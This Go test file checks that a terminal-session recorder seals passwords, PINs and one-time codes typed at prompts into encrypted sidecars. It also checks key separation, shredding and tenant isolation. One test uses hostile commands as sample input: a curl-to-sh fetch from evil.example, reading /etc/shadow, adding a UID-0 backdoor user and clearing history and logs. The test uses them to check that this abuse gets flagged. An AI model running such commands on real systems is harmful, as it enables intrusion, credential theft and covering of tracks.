package record

import (
	"bytes"
	"crypto/sha256"
	"encoding/json"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"tandem.dev/tandem/internal/vault"
	"testing"
	"time"

	"golang.org/x/crypto/chacha20poly1305"

	"tandem.dev/tandem/internal/testenv"
)

// sealedSession records steps of output and input and returns the writer
// (closed) and its summary.
type ioStep struct {
	out, person, in string
}

func recordSteps(t *testing.T, e *env, id string, steps []ioStep) (*Writer, Summary) {
	t.Helper()
	w := e.create(t, e.meta(id, KindPTY), Options{})
	for _, s := range steps {
		if s.out != "" {
			must(t, w.Output([]byte(s.out)))
		}
		if s.in != "" {
			must(t, w.Input(s.person, []byte(s.in)))
		}
		e.clock.Advance(100e6)
	}
	sum, err := w.Close()
	must(t, err)
	return w, sum
}

// sealedText returns all sealed keystrokes of w, decrypted with the
// sealed key, as "person:data" per chunk.
func sealedText(t *testing.T, e *env, w *Writer) []string {
	t.Helper()
	if w.SealedPath() == "" {
		return nil
	}
	in, err := e.openSealed(w.SealedPath())
	must(t, err)
	var out []string
	for _, s := range in {
		out = append(out, s.Person+":"+string(s.Data))
	}
	return out
}

func TestSealedPrompts(t *testing.T) { eachStorage(t, testSealedPrompts) }

func testSealedPrompts(t *testing.T) {
	tests := []struct {
		name       string
		steps      []ioStep
		wantSealed []string // person:data per sealed chunk
		wantInput  string   // all recorded input
		wantMarks  []string // sealed markers in the export
	}{
		{"German sudo prompt",
			[]ioStep{{"$ sudo -i\r\n[sudo] Passwort für deploy: ", "alice", "Geheim-123"}, {"", "alice", "\r"}, {"\r\n# ", "alice", "id\r"}},
			[]string{"alice:Geheim-123"}, "\rid\r", []string{"10 keystrokes sealed (secret prompt)"}},
		{"Kennwort",
			[]ioStep{{"$ su -\r\nKennwort: ", "alice", "Kennw0rt-ß\r"}},
			[]string{"alice:Kennw0rt-ß"}, "\r", []string{"10 keystrokes sealed (secret prompt)"}},
		{"PIN",
			[]ioStep{{"PIN: ", "alice", "1234\r"}, {"\r\n$ ", "alice", "ls\r"}},
			[]string{"alice:1234"}, "\rls\r", []string{"4 keystrokes sealed (secret prompt)"}},
		{"OTP verification code",
			[]ioStep{{"Password: ", "alice", "pw\r"}, {"\r\nVerification code: ", "alice", "123456\r"}},
			[]string{"alice:pw", "alice:123456"}, "\r\r", []string{"2 keystrokes sealed (secret prompt)", "6 keystrokes sealed (secret prompt)"}},
		{"Einmalpasswort split across output chunks",
			[]ioStep{{"Einmal", "", ""}, {"pass", "", ""}, {"wort:", "", ""}, {" ", "bob", "987"}, {"", "bob", "654\n"}},
			[]string{"bob:987654"}, "\n", []string{"6 keystrokes sealed (secret prompt)"}},
		{"ANSI coloured sudo prompt",
			[]ioStep{{"\x1b[1;31m[sudo] Passwort für\x1b[0m \x1b[1mdeploy\x1b[0m:\x1b[0m ", "alice", "rot-Passwort\r"}},
			[]string{"alice:rot-Passwort"}, "\r", []string{"12 keystrokes sealed (secret prompt)"}},
		{"two typists, Ctrl-C",
			[]ioStep{{"Token: ", "alice", "ab"}, {"", "bob", "cd"}, {"", "alice", "\x03"}},
			[]string{"alice:ab", "bob:cd"}, "\x03", []string{"2 keystrokes sealed (secret prompt)", "2 keystrokes sealed (secret prompt)"}},
		{"answer still typed at the end",
			[]ioStep{{"Password: ", "alice", "half"}},
			[]string{"alice:half"}, "", []string{"4 keystrokes sealed (secret prompt)"}},
		{"no prompt",
			[]ioStep{{"Name: ", "alice", "Geheim\r"}},
			nil, "Geheim\r", nil},
	}
	for i, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			e := newEnv(t)
			w, sum := recordSteps(t, e, "s-sealed-"+string(rune('a'+i)), tc.steps)
			if got := sealedText(t, e, w); !reflect.DeepEqual(got, tc.wantSealed) {
				t.Fatalf("sealed %q, want %q", got, tc.wantSealed)
			}
			evs, err := readAll(t, e, w.Path())
			must(t, err)
			var in string
			for _, ev := range evs {
				if ev.Type == EvInput {
					in += string(ev.Data)
				}
			}
			if in != tc.wantInput {
				t.Fatalf("recorded input %q, want %q", in, tc.wantInput)
			}
			cast := string(exportCast(t, e, w.Path()))
			_, castEvs := parseTestCast(t, cast)
			var marks []string
			for _, ev := range castEvs {
				if ev[1] == "m" && strings.Contains(ev[2], "sealed") {
					marks = append(marks, ev[2])
				}
			}
			if !reflect.DeepEqual(marks, tc.wantMarks) {
				t.Fatalf("sealed markers %q, want %q\n%s", marks, tc.wantMarks, cast)
			}
			for _, s := range tc.wantSealed {
				secret := s[strings.IndexByte(s, ':')+1:]
				if strings.Contains(cast, secret) {
					t.Fatalf("the export holds the secret %q:\n%s", secret, cast)
				}
			}
			if sum.Sealed.Flagged {
				t.Fatalf("flagged: %+v", sum.Sealed)
			}
			if len(tc.wantSealed) > 0 && (sum.Sealed.Prompts == 0 || sum.Sealed.FileSHA256 == "") {
				t.Fatalf("summary lacks the sealed input: %+v", sum.Sealed)
			}
			// Verify and the listing see the same totals as Close.
			r, err := e.open(w.Path())
			must(t, err)
			vs, err := r.Verify()
			r.Close()
			must(t, err)
			vs.Duration = sum.Duration // Close ends at its own time, also without a last event
			if !reflect.DeepEqual(vs, sum) {
				t.Fatalf("Verify %+v, Close %+v", vs, sum)
			}
			ls, err := e.sealedSummary(w.Path())
			must(t, err)
			if ls != sum.Sealed {
				t.Fatalf("ReadSealedSummary %+v, Close %+v", ls, sum.Sealed)
			}
		})
	}
}

// parseTestCast splits an asciicast into its header and [t, code, data]
// events (data as string).
func parseTestCast(t *testing.T, cast string) (string, [][3]string) {
	t.Helper()
	lines := strings.Split(strings.TrimSpace(cast), "\n")
	var evs [][3]string
	for _, l := range lines[1:] {
		var raw []any
		if err := jsonUnmarshal(l, &raw); err != nil || len(raw) != 3 {
			t.Fatalf("bad cast line %q: %v", l, err)
		}
		evs = append(evs, [3]string{"", raw[1].(string), raw[2].(string)})
	}
	return lines[0], evs
}

// TestSealedFakePromptFlagged: a shell that prints "Password:" before
// every command, with echo off, would hide the commands; they are sealed,
// and the session is flagged in the summary, the listing and the export.
func TestSealedFakePromptFlagged(t *testing.T) { eachStorage(t, testSealedFakePromptFlagged) }

func testSealedFakePromptFlagged(t *testing.T) {
	e := newEnv(t)
	var steps []ioStep
	cmds := []string{"curl -s http://evil.example/x | sh", "cat /etc/shadow", "useradd -o -u 0 backdoor", "history -c", "rm -rf /var/log/tandem"}
	for _, c := range cmds {
		steps = append(steps, ioStep{"\r\nPassword: ", "mallory", c + "\r"})
	}
	w, sum := recordSteps(t, e, "s-fake", steps)
	if !sum.Sealed.Flagged || sum.Sealed.Prompts != int64(len(cmds)) {
		t.Fatalf("fake prompts: summary %+v, want flagged with %d prompts", sum.Sealed, len(cmds))
	}
	ls, err := e.sealedSummary(w.Path())
	must(t, err)
	if !ls.Flagged || ls.Keystrokes != sum.Sealed.Keystrokes {
		t.Fatalf("listing summary %+v, want %+v", ls, sum.Sealed)
	}
	cast := string(exportCast(t, e, w.Path()))
	if !strings.Contains(cast, MarkerSealedManyNote) {
		t.Fatalf("the export does not flag the session:\n%s", cast)
	}
	for _, c := range cmds {
		if strings.Contains(cast, c) {
			t.Fatalf("the export holds the sealed command %q", c)
		}
	}
	var got []string
	for _, s := range sealedText(t, e, w) {
		got = append(got, strings.TrimPrefix(s, "mallory:"))
	}
	if !reflect.DeepEqual(got, cmds) {
		t.Fatalf("sealed %q, want the commands %q", got, cmds)
	}
	var replay bytes.Buffer
	r, err := e.open(w.Path())
	must(t, err)
	must(t, Replay(r, &replay, ReplayOptions{Sleep: func(d timeDuration) {}}))
	r.Close()
	if !strings.Contains(replay.String(), "[tandem] mallory: 34 keystrokes sealed (secret prompt)") ||
		!strings.Contains(replay.String(), MarkerSealedManyNote) {
		t.Fatalf("replay lacks the sealed markers:\n%s", replay.String())
	}

	// One long "answer" is flagged too, and is sealed in bounded pieces.
	long := strings.Repeat("x", 2*maxPiece+10)
	w2, sum2 := recordSteps(t, e, "s-long", []ioStep{{"PIN: ", "mallory", long + "\r"}})
	if !sum2.Sealed.Flagged || sum2.Sealed.Prompts != 1 || sum2.Sealed.Bytes != int64(len(long)) {
		t.Fatalf("long answer: summary %+v", sum2.Sealed)
	}
	if n := len(sealedText(t, e, w2)); n != 3 {
		t.Fatalf("long answer sealed in %d chunks, want 3", n)
	}
	// A few secrets are not flagged.
	_, sum3 := recordSteps(t, e, "s-few", []ioStep{
		{"[sudo] Passwort für a: ", "a", "falsch\r"}, {"Sorry\r\n[sudo] Passwort für a: ", "a", "richtig\r"}, {"# su - b\r\nPasswort: ", "a", "b-pw\r"}})
	if sum3.Sealed.Flagged || sum3.Sealed.Prompts != 3 {
		t.Fatalf("three prompts: summary %+v, want 3 prompts, not flagged", sum3.Sealed)
	}
}

// TestSealedKeySeparation: sealed keystrokes open only with the sealed
// key, a sealed key does not pass for a data key, the normal reader never
// touches them, no secret lies in plaintext anywhere under the data
// directory, and shredding the day destroys the sealed key too.
func TestSealedKeySeparation(t *testing.T) {
	e := newEnv(t)
	secret := "Sehr-Geheim-4711"
	w, _ := recordSteps(t, e, "s-sep", []ioStep{{"[sudo] Passwort für deploy: ", "alice", secret + "\r"}, {"\r\n# ", "alice", "exit\r"}})
	sp := w.SealedPath()
	if sp == "" || !strings.HasPrefix(sp, filepath.Join(e.dir, "sealed")+string(filepath.Separator)) {
		t.Fatalf("sealed path %q, want under %s/sealed", sp, e.dir)
	}

	// The data key does not open the sidecar.
	_, dataKey, err := e.v.Key(vault.Content, "acme", e.clock.Now())
	must(t, err)
	raw, err := os.ReadFile(sp)
	must(t, err)
	hdr, frames := splitFile(t, raw)
	if len(frames) != 2 {
		t.Fatalf("sidecar has %d chunks, want 2 (the answer and the final one)", len(frames))
	}
	aead, err := chacha20poly1305.NewX(dataKey)
	must(t, err)
	body := frames[0][frameLenLen:]
	hh := sha256Sum(hdr)
	if _, err := aead.Open(nil, body[:nonceSize], body[nonceSize:], sealedAD(nil, &hh, 0)); err == nil {
		t.Fatal("the data key opens the sealed keystrokes")
	}
	// The reader of recordings refuses the sidecar.
	if _, err := Open(e.v, sp); !errors.Is(err, ErrCorrupt) {
		t.Fatalf("Open(sidecar) = %v, want ErrCorrupt", err)
	}
	// A sealed key file put in place of the data key does not unwrap as one.
	day := Day(e.clock.Now())
	sealedKeyFile := filepath.Join(e.dir, "sealed-keys", "acme", day+".key")
	dataKeyFile := filepath.Join(e.dir, "keys", "acme", day+".key")
	kb, err := os.ReadFile(sealedKeyFile)
	must(t, err)
	db, err := os.ReadFile(dataKeyFile)
	must(t, err)
	writeFile(t, dataKeyFile, kb)
	v2, err := OpenVault(e.dir, e.v.KEK())
	must(t, err)
	if _, err := Open(v2, w.Path()); err == nil || !strings.Contains(err.Error(), "bound to another") {
		t.Fatalf("recording opened with the sealed key in place of the data key: %v", err)
	}
	writeFile(t, dataKeyFile, db)

	// No plaintext secret anywhere in the data directory.
	files := testenv.EachFile(t, e.dir, func(p string, _ fs.DirEntry, b []byte) {
		if bytes.Contains(b, []byte(secret)) || bytes.Contains(b, []byte("Sehr-Geheim")) {
			t.Errorf("the secret is in plaintext in %s", p)
		}
	})
	if files < 4 {
		t.Fatalf("scanned only %d files", files)
	}

	// Shredding the day's sealed key makes the keystrokes unreadable.
	sh, err := e.v.Shred(vault.Sealed, "acme", e.clock.Now())
	must(t, err)
	if sh.Path != sealedKeyFile {
		t.Fatalf("Shred removed sealed key %q, want %q", sh.Path, sealedKeyFile)
	}
	v3, err := OpenVault(e.dir, e.v.KEK())
	must(t, err)
	if _, err := OpenSealed(v3, sp); !errors.Is(err, ErrShredded) {
		t.Fatalf("OpenSealed after Shred: %v, want ErrShredded", err)
	}
	if _, err := os.Stat(sealedKeyFile); !errors.Is(err, fs.ErrNotExist) {
		t.Fatalf("sealed key file still there: %v", err)
	}
}

// TestSealedSummaryIncomplete: a recording cut short (crash) still
// reports its sealed input in listings, from its EvSealed events.
func TestSealedSummaryIncomplete(t *testing.T) { eachStorage(t, testSealedSummaryIncomplete) }

func testSealedSummaryIncomplete(t *testing.T) {
	e := newEnv(t)
	w := e.create(t, e.meta("s-cut", KindPTY), Options{})
	must(t, w.Output([]byte("Password: ")))
	must(t, w.Input("alice", []byte("abc\r")))
	must(t, w.Flush())
	raw, err := e.readRaw(w.Path())
	must(t, err)
	_, err = w.Close()
	must(t, err)
	cut := filepath.Join(e.dir, "recordings", "acme", Day(e.clock.Now()), "s-cut2.rec")
	e.writeRaw(t, cut, raw) // the recording as it was before Close
	s, err := e.sealedSummary(cut)
	must(t, err)
	if s.Prompts != 1 || s.Keystrokes != 3 || s.Bytes != 3 || s.Flagged {
		t.Fatalf("summary of the cut recording: %+v", s)
	}
}

type timeDuration = time.Duration

func jsonUnmarshal(s string, v any) error { return json.Unmarshal([]byte(s), v) }

func sha256Sum(b []byte) [32]byte { return sha256.Sum256(b) }

// Sealed keystrokes are read for a session by its place: another
// session's sidecar put there (by whoever edits the data directory) is
// refused, not handed out as this session's secrets — also another
// tenant's, whose key the header would name.
func TestSealedFileOfAnotherSessionRefused(t *testing.T) {
	e := newEnv(t)
	wa, _ := recordSteps(t, e, "s-a", []ioStep{{"Password: ", "alice", "alice-secret\r"}})
	wb, _ := recordSteps(t, e, "s-b", []ioStep{{"Password: ", "bob", "bob-secret\r"}})
	m := e.meta("s-c", KindPTY)
	m.Tenant = "globex"
	wc := e.create(t, m, Options{})
	must(t, wc.Output([]byte("PIN: ")))
	must(t, wc.Input("carol", []byte("1234\r")))
	_, err := wc.Close()
	must(t, err)
	for _, src := range []string{wb.SealedPath(), wc.SealedPath()} {
		b, err := os.ReadFile(src)
		must(t, err)
		writeFile(t, wa.SealedPath(), b)
		in, err := OpenSealed(e.v, wa.SealedPath())
		if !isErr(err, ErrCorrupt) || len(in) != 0 {
			t.Errorf("%s at s-a's place: %d inputs, %v", src, len(in), err)
		}
	}
}

// memObject is an Object over bytes.
type memObject struct{ *bytes.Reader }

func (memObject) Close() error { return nil }

// FuzzReadSealed: whatever lies at a sidecar's place, reading it does not
// panic, and what it returns is of the place's session only.
func FuzzReadSealed(f *testing.F) {
	e := newEnv(f)
	m := e.meta("s-f", KindPTY)
	w := e.create(f, m, Options{})
	if err := w.Output([]byte("Password: ")); err != nil {
		f.Fatal(err)
	}
	if err := w.Input("alice", []byte("hunter2\r")); err != nil {
		f.Fatal(err)
	}
	if _, err := w.Close(); err != nil {
		f.Fatal(err)
	}
	raw, err := os.ReadFile(w.SealedPath())
	if err != nil {
		f.Fatal(err)
	}
	f.Add(raw)
	f.Add(bytes.Replace(raw, []byte(`"s-f"`), []byte(`"s-g"`), 1))
	ref := Ref{Sealed: true, Tenant: "acme", Day: Day(m.Started), Session: "s-f"}
	f.Fuzz(func(t *testing.T, p []byte) {
		in, err := readSealed(ring(e.v, nil), memObject{bytes.NewReader(p)}, "fuzz", ref)
		if err == nil || len(in) > 0 {
			line, _, _ := bytes.Cut(p, []byte("\n"))
			var h Header
			if json.Unmarshal(line, &h) != nil || h.Tenant != ref.Tenant || h.Day != ref.Day || h.Session != ref.Session {
				t.Fatalf("read %d inputs from a file whose header names %s/%s/%s", len(in), h.Tenant, h.Day, h.Session)
			}
		}
	})
}
